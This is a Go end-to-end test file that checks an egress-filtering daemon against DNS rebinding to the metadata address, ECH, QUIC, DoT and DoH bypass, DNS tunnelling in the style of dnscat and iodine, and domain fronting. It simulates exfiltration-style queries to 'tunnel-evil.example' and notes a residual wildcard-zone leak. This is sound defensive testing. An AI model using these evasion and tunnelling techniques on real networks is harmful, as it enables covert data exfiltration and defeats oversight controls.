package e2e

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"net"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// Names the recording upstream answers in TestHardeningDNS.
const (
	rebindMeta   = "rebind.nirovision.com"   // A 169.254.169.254
	rebindPriv   = "rebind10.nirovision.com" // A 10.1.2.3
	rebindMixed  = "mixed.nirovision.com"    // A 10.1.2.3 and A 203.0.113.10
	rebindNAT64  = "nat64.nirovision.com"    // AAAA 64:ff9b::a9fe:a9fe
	rebind6to4   = "sixtofour.nirovision.com"
	rebindMapped = "mapped.nirovision.com" // AAAA ::ffff:169.254.169.254
	cnameOut     = "cname-out.nirovision.com"
	cnameIn      = "cname-in.docker.io"
	echName      = "ech.nirovision.com"
	privIP       = "10.1.2.3"
	metaIP       = "169.254.169.254"
	// echConfig is an ECHConfigList (public name public.tls-ech.dev), as
	// an HTTPS record's ech parameter carries it.
	echConfig = "AEn+DQBFKwAgACABWIHUGj4u+PIggYXcR5JF0gYk3dCRioBW8uJq9H4mKAAIAAEAAQABAANAEnB1YmxpYy50bHMtZWNoLmRldgAA"
)

// TestHardeningDNS: what hides or smuggles the name (ECH, QUIC, DoT, DoH),
// the DNS forwarder as an exfiltration surface, rebinding and CNAME
// chains, and domain fronting (THREATS.md A1, B1, B2, B3, E1-E5).
func TestHardeningDNS(t *testing.T) {
	tp := newTopo(t)
	u := tp.startUpstream(t)
	for _, rr := range []string{
		rebindMeta + ". 300 IN A " + metaIP,
		rebindPriv + ". 300 IN A " + privIP,
		rebindMixed + ". 300 IN A " + privIP,
		rebindMixed + ". 300 IN A " + dockerIP4,
		rebindNAT64 + ". 300 IN AAAA 64:ff9b::a9fe:a9fe",
		rebind6to4 + ". 300 IN AAAA 2002:a9fe:a9fe::1",
		rebindMapped + ". 300 IN AAAA ::ffff:169.254.169.254",
		cnameOut + ". 300 IN CNAME " + trackerName + ".",
		cnameIn + ". 300 IN CNAME " + dockerName + ".",
		echName + ". 300 IN HTTPS 1 . alpn=h2 ipv4hint=" + dockerIP4 + "," + privIP + " ech=" + echConfig,
		echName + ". 300 IN A " + dockerIP4,
		"dns.google. 300 IN A " + dohIP4,
		"cloudflare-dns.com. 300 IN A " + dohIP4,
		"cloudflare-ech.com. 300 IN A " + dohIP4,
	} {
		u.add(rr)
	}
	// Witnesses listen only on test-range addresses (the project's network
	// rule): the metadata and private addresses get no host; a dial to them
	// is checked by the proxy's verdict, and it is intercepted at the
	// gateway either way.
	w := tp.newWitness(t,
		[]string{dohIP4 + ":443", dohIP4 + ":853"},
		[]string{dockerIP4 + ":443", dohIP4 + ":853"})
	for _, a := range []string{dohIP4 + ":853"} {
		if !tp.dialOK(a) {
			t.Fatalf("without egressd, %s is not reachable from the LAN: the test would prove nothing", a)
		}
	}
	if err := udpExchange(tp, dockerIP4+":443", []byte("ping")); err != nil {
		t.Fatalf("without egressd, UDP %s:443 does not answer: %v", dockerIP4, err)
	}
	w.settleAfter(t, 1, 1)
	baseTCP, baseUDP := w.tcp.Load(), w.udp.Load()

	d := hardeningDaemon(t, tp, u, "")
	for _, q := range [][2]string{{dockerName, "A"}} {
		if rcode, addrs := tp.dig(t, q[0], q[1]); rcode != "NOERROR" || len(addrs) == 0 {
			t.Fatalf("dig %s %s: %s %v", q[0], q[1], rcode, addrs)
		}
	}

	t.Run("ech", func(t *testing.T) {
		// GREASE ECH (Chrome sends it always) with an allowed outer SNI:
		// the outer SNI decides, the hello reaches the origin.
		o := tp.sendHello(dockerIP4+":443", buildHello(helloSpec{sni: [][]string{{dockerName}}, ech: true}), 0, 0)
		if o.denied || o.err != nil {
			t.Errorf("GREASE ECH with SNI %s: %v", dockerName, o)
		}
		if ev := wantEvent(t, d, "GREASE ECH allowed", byClientPort(o.port), "allow", ""); ev.Name != dockerName {
			t.Errorf("GREASE ECH recorded as %q", ev.Name)
		}
		// ECH with a provider's public name as outer SNI, even to an
		// address that is vouched for an allowed name: denied by name.
		o = tp.sendHello(dockerIP4+":443", buildHello(helloSpec{sni: [][]string{{"cloudflare-ech.com"}}, ech: true}), 0, 0)
		if !o.denied {
			t.Errorf("ECH with outer SNI cloudflare-ech.com: %v", o)
		}
		wantEvent(t, d, "ECH public name", byClientPort(o.port), "deny", "no-rule")
		// The forwarder strips the ech parameter (and private hints) from
		// HTTPS records, so clients have no ECH config to use.
		wantECHStripped(t, tp, d, echName, "rebinding+ech")
	})

	t.Run("quic", func(t *testing.T) {
		// QUIC to an allowed name: rejected (ICMP unreachable), so the
		// client gives up at once and falls back to TCP, which works.
		pkt, err := quicInitial(dockerName)
		if err != nil {
			t.Fatal(err)
		}
		err = udpExchange(tp, dockerIP4+":443", pkt)
		if err == nil {
			t.Errorf("QUIC Initial to %s:443 got an answer", dockerIP4)
		} else if !errors.Is(err, syscall.ECONNREFUSED) {
			t.Errorf("QUIC Initial to %s:443: %v, want connection refused (the firewall rejects UDP 443)", dockerIP4, err)
		}
		body, port, err := tp.tlsGet(dockerIP4+":443", dockerName, nil, nil)
		if err != nil || !strings.Contains(body, "sni="+dockerName) {
			t.Errorf("TCP fallback to %s: %q %v", dockerName, body, err)
		}
		wantEvent(t, d, "TCP fallback after QUIC", byClientPort(port), "allow", "")
		// DoQ (UDP 853) likewise.
		if err := udpExchange(tp, dohIP4+":853", pkt); !errors.Is(err, syscall.ECONNREFUSED) {
			t.Errorf("QUIC to %s:853: %v, want connection refused", dohIP4, err)
		}
		// The attempt is recorded by capture when its flow ends: checked
		// after the daemon stops, below.
	})

	t.Run("dot", func(t *testing.T) {
		if out, err := tp.sClient(dohIP4, 853, "dns.google"); err == nil {
			t.Errorf("openssl s_client %s:853 (DoT) got through: %s", dohIP4, out)
		}
		o := tp.sendHello(dohIP4+":853", buildHello(helloSpec{sni: [][]string{{"dns.google"}}}), 0, 0)
		if !o.denied {
			t.Errorf("DoT hello to %s:853: %v", dohIP4, o)
		}
		ev := d.waitEvent(t, "DoT", func(e flowEvent) bool {
			return e.Kind == "flow" && e.ClientPort == o.port && !e.Time.Before(dialedAt(o.port))
		})
		if ev.Verdict != "deny" || !ev.Enforced {
			t.Errorf("DoT: %v", ev)
		}
	})

	t.Run("doh", func(t *testing.T) {
		// By name: the resolver names are denied at the forwarder and
		// never asked upstream; the Firefox canary says "no DoH".
		for _, n := range []string{"dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net"} {
			if rcode, addrs := tp.dig(t, n, "A"); rcode != "REFUSED" {
				t.Errorf("dig %s: %s %v, want REFUSED", n, rcode, addrs)
			}
		}
		if rcode, _ := tp.dig(t, "use-application-dns.net", "A"); rcode != "NXDOMAIN" {
			t.Errorf("DoH canary use-application-dns.net: %s, want NXDOMAIN", rcode)
		}
		// By address: with its name as SNI, without SNI, with curl.
		for _, spec := range []helloSpec{{sni: [][]string{{"dns.google"}}}, {}} {
			o := tp.sendHello(dohIP4+":443", buildHello(spec), 0, 0)
			if !o.denied {
				t.Errorf("DoH hello %v to %s: %v", spec.sni, dohIP4, o)
			}
			wantEvent(t, d, "DoH by address", byClientPort(o.port), "deny", "no-rule")
		}
		if body, err := tp.curl("dns.google", 443, dohIP4, "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", true); err == nil {
			t.Errorf("curl DoH at %s got through: %q", dohIP4, body)
		}
	})

	t.Run("tunnel", func(t *testing.T) {
		// dnscat/iodine-shaped queries under a denied zone: answered
		// locally, never forwarded (the query is the channel).
		enc := base32.StdEncoding.WithPadding(base32.NoPadding)
		before := len(u.seenNames())
		refused, other := 0, 0
		for i := range 150 {
			data := make([]byte, 35)
			for j := range data {
				data[j] = byte(i*31 + j*7)
			}
			label := strings.ToLower(enc.EncodeToString(data))
			name := fmt.Sprintf("%s.%s.%d.t.tunnel-evil.example", label[:50], label[50:], i)
			qtype := []uint16{dns.TypeA, dns.TypeTXT, dns.TypeNULL, dns.TypeCNAME, dns.TypeMX}[i%5]
			m, err := tp.dnsQuery(name, qtype, 2*time.Second)
			switch {
			case err == nil && m.Rcode == dns.RcodeRefused:
				refused++
			default:
				other++
				if other < 4 {
					t.Logf("tunnel query %s: %v %v", name, m, err)
				}
			}
		}
		// iodine's raw bytes (not LDH) in a label.
		m, err := tp.dnsQuery("\\200\\201\\377abc.t.tunnel-evil.example", dns.TypeNULL, 2*time.Second)
		if err != nil || m.Rcode != dns.RcodeRefused {
			t.Errorf("iodine-style binary label: %v %v", m, err)
		}
		if refused != 150 {
			t.Errorf("tunnel queries: %d REFUSED of 150 (%d other)", refused, other)
		}
		for _, n := range u.seenNames()[before:] {
			if strings.Contains(n, "tunnel-evil") {
				t.Errorf("the upstream received a denied tunnel query: %s", n)
			}
		}
		// Residual risk (E2): names under an allowed wildcard zone are
		// forwarded; whoever runs that zone's servers reads them.
		before = len(u.seenNames())
		leak := "mzxw6ytboi.exfil.nirovision.com"
		tp.dnsQuery(leak, dns.TypeTXT, 2*time.Second)
		reached := false
		for _, n := range u.seenNames()[before:] {
			reached = reached || n == leak
		}
		t.Logf("a name under the allowed *.nirovision.com reached the upstream: %v (residual risk: allowed wildcard zones carry data)", reached)
		if !reached {
			t.Errorf("%s (allowed by *.nirovision.com) did not reach the upstream: the residual-risk note in SECURITY.md is wrong", leak)
		}
	})

	t.Run("rebinding", func(t *testing.T) {
		for _, c := range []struct {
			name, qtype string
			want        []string
		}{
			{rebindMeta, "A", nil},
			{rebindPriv, "A", nil},
			{rebindMixed, "A", []string{dockerIP4}},
			{rebindNAT64, "AAAA", nil},
			{rebind6to4, "AAAA", nil},
			{rebindMapped, "AAAA", nil},
		} {
			rcode, addrs := tp.dig(t, c.name, c.qtype)
			if rcode != "NOERROR" || strings.Join(addrs, ",") != strings.Join(c.want, ",") {
				t.Errorf("dig %s %s: %s %v, want NOERROR %v (special addresses filtered)", c.name, c.qtype, rcode, addrs, c.want)
			}
		}
		// The client dials the private address anyway (cached, hard-coded):
		// the proxy checks the dialled address.
		for _, c := range [][2]string{{rebindMeta, metaIP}, {rebindPriv, privIP}, {rebindMixed, privIP}} {
			o := tp.sendHello(c[1]+":443", buildHello(helloSpec{sni: [][]string{{c[0]}}}), 0, 0)
			if !o.denied {
				t.Errorf("SNI %s to %s: %v", c[0], c[1], o)
			}
			wantEvent(t, d, "rebinding dial "+c[0], byClientPort(o.port), "deny", "sni-mismatch|special-range")
		}
	})

	t.Run("cname-chain", func(t *testing.T) {
		// DNS follows the names: an allowed name's CNAME into a denied
		// zone is followed and its address learned for the name asked
		// (DESIGN.md). The target name itself stays denied.
		rcode, addrs := tp.dig(t, cnameOut, "A")
		if rcode != "NOERROR" || strings.Join(addrs, ",") != trackerIP {
			t.Errorf("dig %s (CNAME %s): %s %v", cnameOut, trackerName, rcode, addrs)
		}
		o := tp.sendHello(trackerIP+":443", buildHello(helloSpec{sni: [][]string{{cnameOut}}}), 0, 0)
		if o.denied || o.err != nil {
			t.Errorf("SNI %s to its CNAME target's address: %v", cnameOut, o)
		}
		ev := wantEvent(t, d, "CNAME chain, name asked", byClientPort(o.port), "allow", "")
		t.Logf("CNAME %s -> %s: %v", cnameOut, trackerName, ev)
		o = tp.sendHello(trackerIP+":443", buildHello(helloSpec{sni: [][]string{{trackerName}}}), 0, 0)
		if !o.denied {
			t.Errorf("SNI %s (the CNAME target) got through: %v", trackerName, o)
		}
		wantEvent(t, d, "CNAME target by its own name", byClientPort(o.port), "deny", "no-rule")
		rcode, addrs = tp.dig(t, cnameIn, "A")
		if rcode != "NOERROR" || strings.Join(addrs, ",") != dockerIP4 {
			t.Errorf("dig %s (CNAME %s): %s %v", cnameIn, dockerName, rcode, addrs)
		}
	})

	t.Run("domain-fronting", func(t *testing.T) {
		// Residual risk: SNI names an allowed CDN name, the encrypted Host
		// another tenant. Without decryption egressd sees and records only
		// the SNI; the origin serves the other tenant.
		ka, err := tp.openKeepAlive(dockerName, dockerIP4)
		if err != nil {
			t.Fatal(err)
		}
		port := ka.tc.LocalAddr().(*net.TCPAddr).Port
		ka.name = trackerName // the Host header inside TLS
		body, err := ka.get("/fronted")
		ka.close()
		if err != nil || !strings.Contains(body, "sni="+dockerName+" host="+trackerName) {
			t.Errorf("fronted request: %q %v", body, err)
		}
		ev := wantEvent(t, d, "domain fronting", byClientPort(port), "allow", "")
		t.Logf("domain fronting (SNI %s, Host %s): origin says %q; egressd recorded %v", dockerName, trackerName, strings.TrimSpace(body), ev)
		if ev.Name != dockerName || ev.NameSource != "sni" {
			t.Errorf("domain fronting recorded as %q (%s), want the SNI %s", ev.Name, ev.NameSource, dockerName)
		}
	})

	if n := w.tcp.Load() - baseTCP; n != 0 {
		t.Errorf("witness servers accepted %d TCP connections with egressd enforcing", n)
	}
	if n := w.udp.Load() - baseUDP; n != 0 {
		t.Errorf("witness servers received %d UDP datagrams with egressd enforcing", n)
	}

	// A clean stop ends capture's open flows: the QUIC attempt is recorded.
	time.Sleep(300 * time.Millisecond)
	d.stop()
	var quic *flowEvent
	for _, ev := range d.allEvents() {
		if ev.Kind == "flow" && ev.Proto == "udp" && ev.Dest == dockerIP4 && ev.DestPort == 443 {
			quic = &ev
		}
	}
	switch {
	case quic == nil:
		t.Errorf("the QUIC attempt to %s:443 is not in the event log", dockerIP4)
	case quic.Verdict != "deny" || !quic.Enforced || quic.Name != dockerName || quic.NameSource != "quic-sni":
		t.Errorf("QUIC attempt recorded as %v, want a denied, enforced flow named %s from the QUIC SNI", quic, dockerName)
	default:
		t.Logf("QUIC attempt recorded: %v", quic)
	}
}

// udpExchange sends one datagram from the LAN and waits 2 s for a reply.
func udpExchange(tp *topo, addr string, pkt []byte) error {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	c, err := tp.lan.DialContext(ctx, "udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write(pkt); err != nil {
		return err
	}
	buf := make([]byte, 2048)
	_, err = c.Read(buf)
	return err
}

// wantECHStripped asks the forwarder for name's HTTPS record and checks
// that the ech parameter and any private hint are gone and that the
// query's event says what was removed (filtered: the report counts it).
func wantECHStripped(t *testing.T, tp *topo, d *daemon, name, filtered string) {
	t.Helper()
	m, err := tp.dnsQuery(name, dns.TypeHTTPS, 3*time.Second)
	if err != nil || m.Rcode != dns.RcodeSuccess {
		t.Fatalf("HTTPS %s: %v %v", name, m, err)
	}
	var https *dns.HTTPS
	for _, rr := range m.Answer {
		if h, ok := rr.(*dns.HTTPS); ok {
			https = h
		}
	}
	if https == nil {
		t.Fatalf("HTTPS %s: no HTTPS record in %v", name, m)
	}
	for _, kv := range https.Value {
		if kv.Key() == dns.SVCB_ECHCONFIG {
			t.Errorf("HTTPS %s still carries ech: %v", name, https)
		}
		if kv.Key() == dns.SVCB_IPV4HINT && strings.Contains(kv.String(), privIP) {
			t.Errorf("HTTPS %s still carries the private hint %s: %v", name, privIP, https)
		}
	}
	t.Logf("HTTPS %s through egressd: %v", name, https)
	ev := d.waitEvent(t, "the HTTPS query for "+name, func(ev flowEvent) bool {
		return ev.Kind == "dns" && ev.Name == name && ev.QType == "HTTPS"
	})
	if ev.Filtered != filtered {
		t.Errorf("HTTPS %s: event filtered %q, want %s: %v", name, ev.Filtered, filtered, ev)
	}
}

// echPublic is the ECH provider's public name (THREATS.md B1), which
// TestHardeningDNS/ech sees denied; echRule allow-lists it on 443.
const (
	echPublic = "cloudflare-ech.com"
	echRule   = `
  - name: ech-public
    why: the ECH public name allow-listed
    to: ["` + echPublic + `"]
    ports: [443/tcp]
`
)

// TestHardeningDNSECHAllowed (THREATS.md B1, "denied unless allow-listed":
// the allow-listed half), in enforce and audit mode, with the ECH public
// name in a rule. The forwarder still strips the ech parameter from its
// HTTPS record (README: the forwarder strips ech; a rule makes no
// exception, only dnsfilter.Config.KeepECH would, which no flag sets), so
// a client gets no config. A hello shaped as ECH (0xfe0d) whose outer SNI
// is the allowed name is decided by that outer name: allowed, answered by
// the origin, recorded under the outer name and the rule. Another ECH
// provider's name in no rule (defo.ie) is denied beside it.
func TestHardeningDNSECHAllowed(t *testing.T) {
	for _, mode := range []string{"enforce", "audit"} {
		t.Run(mode, func(t *testing.T) {
			tp := newTopo(t)
			u := tp.startUpstream(t)
			// The public name resolves to the origin, which answers
			// any SNI, so "allowed" is a ServerHello back.
			u.add(echPublic + ". 300 IN HTTPS 1 . alpn=h2 ech=" + echConfig)
			u.add(echPublic + ". 300 IN A " + dockerIP4)
			d := modeDaemonRules(t, tp, u, mode, echRule)
			if rcode, addrs := tp.dig(t, echPublic, "A"); rcode != "NOERROR" || len(addrs) == 0 {
				t.Fatalf("dig %s: %s %v", echPublic, rcode, addrs)
			}
			wantECHStripped(t, tp, d, echPublic, "ech")
			for _, c := range []struct{ sni, verdict, reason, rule string }{
				{echPublic, "allow", "allowed", "ech-public"},
				{"defo.ie", "deny", "no-rule", ""},
			} {
				o := tp.sendHello(dockerIP4+":443", buildHello(helloSpec{sni: [][]string{{c.sni}}, ech: true}), 0, 0)
				if o.port == 0 {
					t.Errorf("ECH hello with outer SNI %s: %v", c.sni, o)
					continue
				}
				if want := c.verdict == "deny" && mode == "enforce"; o.denied != want || o.err != nil {
					t.Errorf("%s mode: ECH hello with outer SNI %s: %v, want denied %v", mode, c.sni, o, want)
				}
				ev := d.waitEvent(t, "ECH hello for "+c.sni, func(e flowEvent) bool {
					return e.Kind == "flow" && e.ClientPort == o.port && !e.Time.Before(dialedAt(o.port))
				})
				if ev.Kind == "" {
					continue
				}
				t.Logf("%s mode: %v", mode, ev)
				if ev.Verdict != c.verdict || ev.Reason != c.reason || ev.Rule != c.rule || ev.Name != c.sni || ev.NameSource != "sni" || ev.Enforced != (mode == "enforce" && c.verdict == "deny") {
					t.Errorf("%s mode: ECH hello with outer SNI %s recorded as %v; want %s %q rule %q under the outer name", mode, c.sni, ev, c.verdict, c.reason, c.rule)
				}
			}
		})
	}
}
